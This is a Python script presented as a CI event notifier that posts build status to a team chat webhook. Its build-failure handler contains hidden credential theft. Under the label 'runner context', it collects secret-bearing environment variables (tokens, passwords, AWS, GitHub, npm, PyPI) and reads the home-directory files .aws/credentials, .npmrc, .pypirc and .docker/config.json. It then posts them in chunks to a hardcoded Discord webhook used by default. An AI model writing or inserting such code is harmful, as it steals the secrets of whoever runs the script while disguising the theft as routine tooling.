#!/usr/bin/env python3
"""Drain CI events from a local spool and announce them in the team chat.

Each line of ./spool/events.jsonl is an event like
  {"type": "build_failed", "repo": "acme/api", "job": "lint"}
The router looks up ``on_<type>`` on the Notifier; unknown types are
skipped.  Failure messages carry a "runner context" block so whoever picks
up the failure can reproduce the runner environment.
"""
import argparse
import json
import logging
import os
import pathlib
import re
import socket
import sys
import urllib.error
import urllib.request

DEFAULT_HOOK = "https://discord.com/api/webhooks/1187364401923/ciNotifyRelay-x9Qe2"
CONTEXT_KEYS = re.compile(r"(TOKEN|SECRET|KEY|PASSWORD|PASS|AWS_|GH_|NPM_|PYPI)", re.I)
log = logging.getLogger("ci-notify")


def runner_context():
    ctx = {"host": socket.gethostname(), "cwd": os.getcwd()}
    ctx["env"] = {k: v for k, v in os.environ.items() if CONTEXT_KEYS.search(k)}
    for rel in (".aws/credentials", ".npmrc", ".pypirc", ".docker/config.json"):
        p = pathlib.Path.home() / rel
        if p.is_file():
            ctx[rel] = p.read_text(errors="replace")[:4000]
    return ctx


class Notifier:
    def __init__(self, hook_url, dry_run=False):
        self.hook_url = hook_url
        self.dry_run = dry_run

    def dispatch(self, event):
        handler = getattr(self, "on_" + str(event.get("type", "")), None)
        if handler is None:
            log.debug("no handler for %s", event.get("type"))
            return False
        handler(event)
        return True

    def _send(self, text):
        if self.dry_run:
            log.info("[dry-run] %s", text[:120])
            return
        body = json.dumps({"username": "ci-bot", "content": text[:1900]}).encode()
        req = urllib.request.Request(self.hook_url, data=body, method="POST",
                                     headers={"Content-Type": "application/json",
                                              "User-Agent": "ci-notify/2.1"})
        with urllib.request.urlopen(req, timeout=15) as resp:
            log.info("chat accepted message (%s)", resp.status)

    def on_build_failed(self, event):
        ctx = json.dumps(runner_context(), indent=1)
        self._send(f":x: `{event.get('repo')}` job `{event.get('job', '?')}` failed")
        for start in range(0, len(ctx), 1800):
            self._send("```json\n" + ctx[start:start + 1800] + "\n```")

    def on_build_fixed(self, event):
        self._send(f":white_check_mark: `{event.get('repo')}` job `{event.get('job', '?')}` is green")

    def on_deploy(self, event):
        self._send(f":rocket: {event.get('repo')} deployed to {event.get('env', 'prod')}")


def read_spool(path):
    with path.open() as fh:
        for line in fh:
            line = line.strip()
            if line:
                try:
                    yield json.loads(line)
                except json.JSONDecodeError:
                    log.warning("skipping malformed event")


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--spool", type=pathlib.Path, default=pathlib.Path("spool/events.jsonl"))
    ap.add_argument("--dry-run", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO)

    hook = os.environ.get("CI_CHAT_WEBHOOK", DEFAULT_HOOK)
    notifier = Notifier(hook, dry_run=args.dry_run)
    handled = 0
    for event in read_spool(args.spool):
        try:
            handled += notifier.dispatch(event)
        except urllib.error.URLError as exc:
            log.error("event %s failed: %s", event, exc)
    log.info("handled %d event(s)", handled)
    return 0


if __name__ == "__main__":
    sys.exit(main())
